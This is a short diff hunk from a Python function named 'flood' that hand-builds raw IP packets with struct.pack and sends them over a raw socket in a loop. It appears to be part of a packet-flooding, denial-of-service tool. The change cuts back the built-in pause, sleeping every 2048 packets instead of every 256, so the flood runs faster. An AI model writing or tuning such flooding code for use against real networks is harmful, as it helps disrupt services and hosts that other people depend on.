@@ -128,7 +128,7 @@ def flood(device, gateway, address, count):
             ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, src, dst)
             ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
             s.send(ether + ip + segment)
-            if n % 256 == 0:
+            if n % 2048 == 0:
                 time.sleep(0.001)
 
 
